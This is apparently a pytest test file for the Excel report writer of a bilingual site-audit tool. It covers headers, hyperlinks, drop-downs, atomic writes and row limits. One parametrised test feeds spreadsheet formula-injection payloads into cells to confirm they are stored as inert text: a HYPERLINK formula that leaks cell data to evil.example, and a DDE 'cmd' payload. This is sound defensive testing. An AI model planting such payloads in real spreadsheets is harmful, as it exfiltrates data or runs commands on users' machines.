"""The workbook, opened with openpyxl: sheets, headers, hyperlinks, status drop-down, formula
neutralisation, errors sheet, atomic write."""

from __future__ import annotations

import openpyxl
import pytest

from checker.config import Config
from checker.engine import AuditContext, build_rules
from checker.models import ErrorRecord, Finding, Severity
from checker.reports.sheetwriter import WorkbookWriter, column_letter
from checker.reports.xlsx import FINDING_COLUMNS, write_workbook

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def make(tmp_path, findings, errors=(), partial=False):
    ctx = AuditContext(config=Config(), start_urls=["http://127.0.0.1:1/sitemap.xml"])
    ctx.errors = list(errors)
    ctx.partial = partial
    ctx.interrupted_reason = "Ctrl-C during crawl" if partial else ""
    path = write_workbook(tmp_path / "out.xlsx", ctx, findings, build_rules(Config()))
    return openpyxl.load_workbook(path)


def finding(**kw):
    base = dict(code="LN001", severity=Severity.ERROR, message="页面无法访问", url="http://127.0.0.1:1/p/a.html")
    return Finding(**{**base, **kw})


def col(name):
    return [c for c, _ in FINDING_COLUMNS].index(name) + 1


def test_sheets_and_bilingual_headers(tmp_path):
    wb = make(tmp_path, [finding()])
    assert wb.sheetnames == ["Summary", "Findings", "Errors", "Rules"]
    ws = wb["Findings"]
    headers = [c.value for c in ws[1]]
    assert headers[:3] == ["序号 No.", "严重程度 Severity", "代码 Code"] and "状态 Status" in headers
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{column_letter(len(FINDING_COLUMNS))}2"
    assert ws.column_dimensions["H"].width == 50
    assert [c.value for c in wb["Errors"][1]] == ["阶段 Stage", "来源 Source", "位置 Location", "原因 Reason"]


def test_hyperlink_status_dropdown_and_colour(tmp_path):
    ws = make(tmp_path, [finding(), finding(code="LN004", severity=Severity.WARNING)])["Findings"]
    url_cell = ws.cell(row=2, column=col("链接 URL"))
    assert url_cell.hyperlink is not None and url_cell.hyperlink.target == "http://127.0.0.1:1/p/a.html"
    assert ws.cell(row=2, column=col("状态 Status")).value == "未处理 Open"
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"未处理 Open,已修复 Fixed,已接受 Accepted"'
    assert "N2:N1000" in str(dv.sqref)
    assert ws.cell(row=2, column=col("严重程度 Severity")).fill.fgColor.rgb.endswith("F8CBAD")
    assert ws.cell(row=3, column=col("严重程度 Severity")).fill.fgColor.rgb.endswith("FFE699")


@pytest.mark.parametrize("text", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1"])
def test_web_text_is_never_a_formula(tmp_path, text):
    ws = make(tmp_path, [finding(evidence=text, sku=text)])["Findings"]
    cell = ws.cell(row=2, column=col("证据 Evidence"))
    assert cell.data_type == "s" and cell.value.strip() == text.strip()  # XML turns a bare CR into LF
    assert ws.cell(row=2, column=col("SKU")).data_type == "s"
    assert cell.quotePrefix


def test_illegal_characters_and_huge_cells_do_not_break_the_file(tmp_path):
    ws = make(tmp_path, [finding(evidence="a\x00b\x0bc" + "长" * 40_000)])["Findings"]
    value = ws.cell(row=2, column=col("证据 Evidence")).value
    assert value.startswith("abc长") and len(value) <= 32_767 and value.endswith("[truncated]")


def test_errors_sheet_and_summary(tmp_path):
    errors = [ErrorRecord(stage="fetch", source="http://127.0.0.1:1/p/x.html", reason="HTTP 404"),
              ErrorRecord(stage="read", source="inventory.csv", location="row 7, column 到期日", reason="bad date")]
    wb = make(tmp_path, [finding()], errors, partial=True)
    rows = list(wb["Errors"].iter_rows(min_row=2, values_only=True))
    assert rows == [("抓取 fetch", "http://127.0.0.1:1/p/x.html", None, "页面不存在 / HTTP 404"),
                    ("读取 read", "inventory.csv", "row 7, column 到期日", "bad date")]
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0]}
    assert summary["状态 Status"].endswith("PARTIAL")
    assert summary["读取错误 Input errors"] == 2 and summary["发现问题 Findings"] == 1


def test_write_is_atomic(tmp_path, monkeypatch):
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"previous workbook")

    def boom(self):
        self.zip.close()
        raise OSError("disk full")

    monkeypatch.setattr(WorkbookWriter, "close", boom)
    with pytest.raises(OSError):
        write_workbook(target, AuditContext(), [finding()], [])
    assert target.read_bytes() == b"previous workbook"
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]


def test_summary_counts_product_pages_not_read(tmp_path):
    unread = [finding(code="PR007", severity=Severity.INFO, message="无法读取商品：价格与文案未检查",
                      url=f"http://127.0.0.1:1/p/{n}.html") for n in range(3)]
    wb = make(tmp_path, [finding(), *unread])
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0]}
    assert summary["无法读取商品的页面 Product pages not read (PR007)"] == 3


def test_repeat_columns(tmp_path):
    """A finding CP002 escalated says so in its Repeat columns (the complaint sheets are the CP pack's:
    tests/test_complaints_store.py)."""
    repeat = finding(code="ST004", sku="A1", repeat_of=["T1", "T2"], escalated_by="CP002")
    ws = make(tmp_path, [repeat, finding()])["Findings"]
    assert ws.cell(row=2, column=col("重犯 Repeat")).value == "是 yes"
    assert ws.cell(row=2, column=col("历史投诉 Complaint ids")).value == "T1, T2"
    assert ws.cell(row=3, column=col("重犯 Repeat")).value is None


# ---------------------------------------------------------------- Excel's row limit, failures while writing
def summary_of(wb):
    return [(r[0], r[1]) for r in wb["Summary"].iter_rows(values_only=True) if r[0]]


def notes_of(wb):
    return [value for label, value in summary_of(wb) if label == "工作簿说明 Workbook note"]


def write_small(tmp_path, findings, errors=(), max_rows=5):
    ctx = AuditContext(config=Config(), start_urls=["http://127.0.0.1:1/sitemap.xml"])
    ctx.errors = list(errors)
    path = write_workbook(tmp_path / "out.xlsx", ctx, findings, build_rules(Config()), max_rows=max_rows)
    return openpyxl.load_workbook(path), ctx


def test_findings_past_the_row_limit_continue_on_more_sheets(tmp_path):
    findings = [finding(sku=f"S{n}") for n in range(10)]
    wb, _ = write_small(tmp_path, findings)  # 4 findings under each header
    assert wb.sheetnames == ["Summary", "Findings", "Findings (2)", "Findings (3)", "Errors", "Rules", "按SKU Per SKU"]
    sheets = [wb[name] for name in ("Findings", "Findings (2)", "Findings (3)")]
    assert [ws.max_row for ws in sheets] == [5, 5, 3]
    assert all(ws.cell(row=1, column=1).value == "序号 No." and ws.freeze_panes == "A2" for ws in sheets)
    numbers = [row[0] for ws in sheets for row in ws.iter_rows(min_row=2, values_only=True)]
    skus = [row[col("SKU") - 1] for ws in sheets for row in ws.iter_rows(min_row=2, values_only=True)]
    assert numbers == list(range(1, 11)) and skus == [f"S{n}" for n in range(10)]
    assert any("Findings (3)" in note for note in notes_of(wb))
    assert dict(summary_of(wb))["发现问题 Findings"] == 10


def test_beyond_the_last_findings_sheet_the_lowest_severities_are_summarised(tmp_path, monkeypatch):
    monkeypatch.setattr("checker.reports.xlsx.MAX_FINDING_SHEETS", 2)
    findings = [finding()] * 3 + [finding(code="LN004", severity=Severity.INFO)] * 4  # sorted, as the audit does
    wb, ctx = write_small(tmp_path, findings, max_rows=3)
    assert wb.sheetnames == ["Summary", "Findings", "Findings (2)", "Errors", "Rules"]
    assert sum(wb[name].max_row - 1 for name in ("Findings", "Findings (2)")) == 4
    (summarised,) = [note for note in notes_of(wb) if "not listed" in note]
    assert summarised.startswith("3 条") and "LN004 3" in summarised
    assert any(e.stage == "report" for e in ctx.errors)  # and the console hears of it


def test_errors_past_the_row_limit_are_cut_with_a_note(tmp_path):
    errors = [ErrorRecord(stage="fetch", source=f"http://127.0.0.1:1/p/{n}", reason="HTTP 404") for n in range(9)]
    wb, _ = write_small(tmp_path, [finding()], errors)
    assert wb["Errors"].max_row == 5
    assert any(note.startswith("Errors: 只写入前 4 行") for note in notes_of(wb))


def test_a_row_that_fails_leaves_the_rows_before_it_and_a_valid_workbook(tmp_path, monkeypatch):
    from checker.reports import xlsx

    def area_name(code):
        if code == "XX999":
            raise ValueError("bad finding")
        return code

    monkeypatch.setattr(xlsx, "area_name", area_name)
    findings = [finding(), finding(), finding(code="XX999"), finding()]
    wb, _ = write_small(tmp_path, findings, max_rows=100)
    assert wb.sheetnames == ["Summary", "Findings", "Errors", "Rules"]
    assert wb["Findings"].max_row == 3  # the header and the two findings before the bad one
    assert any("writing stopped at row 4" in note and "bad finding" in note for note in notes_of(wb))
    assert wb["Rules"].max_row > 1


def test_a_workbook_that_cannot_be_written_whole_is_still_its_summary(tmp_path, monkeypatch):
    write_sheet = WorkbookWriter.write_sheet

    def failing(self, sheet, rows, **kw):
        if sheet.name == "Errors":
            raise OSError("no space left on device")
        return write_sheet(self, sheet, rows, **kw)

    monkeypatch.setattr(WorkbookWriter, "write_sheet", failing)
    wb, _ = write_small(tmp_path, [finding()], max_rows=100)
    assert wb.sheetnames == ["Summary"]
    assert dict(summary_of(wb))["发现问题 Findings"] == 1
    assert any("no space left on device" in note for note in notes_of(wb))


def test_rows_are_tall_enough_for_their_wrapped_text(tmp_path):
    """Excel does not grow a row for wrapped text it did not write: the writer sets the height from the
    text (a Chinese character two columns wide), so a long message reads and prints whole."""
    long = "非医疗商品使用医疗、功效用语「根治」，" * 12 + "\n/ Medical claim on a product that is not a medicine"
    ws = make(tmp_path, [finding(message="短"), finding(message=long)])["Findings"]
    short_row, long_row = ws.row_dimensions[2], ws.row_dimensions[3]
    assert short_row.height is None  # one line: Excel's own height
    assert long_row.customHeight and long_row.height >= 15 * 6
    assert ws.row_dimensions[1].height is None
